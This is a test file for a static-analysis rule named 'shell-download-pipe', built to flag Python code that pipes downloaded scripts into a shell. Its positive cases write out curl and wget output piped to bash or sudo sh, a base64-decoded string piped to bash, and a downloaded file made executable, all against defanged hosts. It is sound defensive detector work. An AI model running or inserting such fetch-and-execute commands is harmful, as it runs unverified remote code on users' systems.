# Test for shell-download-pipe (defanged: example.invalid).
import os
import subprocess

# ruleid: shell-download-pipe
os.system("curl -fsSL https://example.invalid/i.sh | bash")
# ruleid: shell-download-pipe
subprocess.run("wget -qO- http://example.invalid/s | sudo sh", shell=True)
# ruleid: shell-download-pipe
os.system("echo %s|base64 -d|bash" % "ZWNobyBoaQ==")
# ruleid: shell-download-pipe
os.system("curl -o /tmp/x https://example.invalid/x && chmod +x /tmp/x")

# ok: shell-download-pipe
subprocess.run(["curl", "-fsSL", "-o", "data.json", "https://example.invalid/data.json"])
# ok: shell-download-pipe
os.system("git log --oneline | head -n 5")
# ok: shell-download-pipe
subprocess.run("curl -LsSf https://astral.sh/uv/install.sh | sh", shell=True, check=True)
# ruleid: shell-download-pipe
subprocess.run("curl -LsSf https://astral.sh.example.invalid/install.sh | sh", shell=True, check=True)
# ok: shell-download-pipe
help_text = "Download with curl, then verify the checksum."
# ok: shell-download-pipe
# Install uv first: curl -LsSf https://example.invalid/install.sh | sh
